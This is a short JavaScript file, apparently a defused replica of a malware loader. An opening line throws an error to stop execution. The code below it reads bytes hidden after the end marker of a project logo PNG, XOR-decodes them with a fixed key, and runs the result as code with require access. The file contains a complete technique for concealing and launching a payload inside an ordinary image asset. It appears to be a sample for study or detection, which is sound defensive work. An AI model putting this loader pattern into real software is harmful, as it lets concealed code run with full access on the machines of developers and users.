throw new Error("inert replica");
const fs = require("fs");
const path = require("path");
const bytes = fs.readFileSync(path.join(__dirname, "assets", "logo.png"));
const from = bytes.indexOf("IEND") + 8;
const key = Buffer.from("replica");
const text = Buffer.from(bytes.subarray(from).map((one, at) => one ^ key[at % key.length])).toString();
new Function("require", text)(require);
